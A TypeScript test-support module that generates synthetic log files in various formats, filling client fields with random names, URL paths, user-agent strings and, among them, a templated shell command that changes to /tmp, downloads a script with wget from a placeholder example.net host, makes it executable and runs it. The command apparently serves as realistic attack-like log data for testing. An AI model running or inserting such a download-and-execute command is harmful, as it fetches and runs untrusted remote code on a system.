import { closeSync, openSync, writeSync } from 'node:fs'
import { FORMAT_SAMPLES } from '../../test/support/format-samples.js'
import { Random } from '../random.js'

/** Lines of a format of all its types in turn, whatever a client writes in them invented anew for each; up to `bytes`. */
export function writeFormatLog(file: string, format: string, bytes: number): void {
  const random = new Random(7)
  const output = openSync(file, 'w')
  let written = 0
  while (written < bytes) {
    const lines = FORMAT_SAMPLES[format]!.carrying(clientText(random))
    written += writeSync(output, `${lines.join('\n')}\n`)
  }
  closeSync(output)
}

/** What clients write: a name, a command, the target of a request. */
function clientText(random: Random): string {
  const host = `${random.word(2)}.example.net`
  const words = Array.from({ length: 1 + random.below(6) }, () => random.word(1 + random.below(3)))
  return random.pick([
    () => words[0]!,
    () => `cd /tmp; wget http://${host}/${words[0]}.sh; chmod +x ${words[0]}.sh; ./${words[0]}.sh ${words.join(' ')}`,
    () => `/${words.join('/')}?id=${random.below(10_000)}&q=${words.join('%20')}`,
    () => `Mozilla/5.0 (${words.join('; ')}) Gecko/20100101`,
  ])()
}
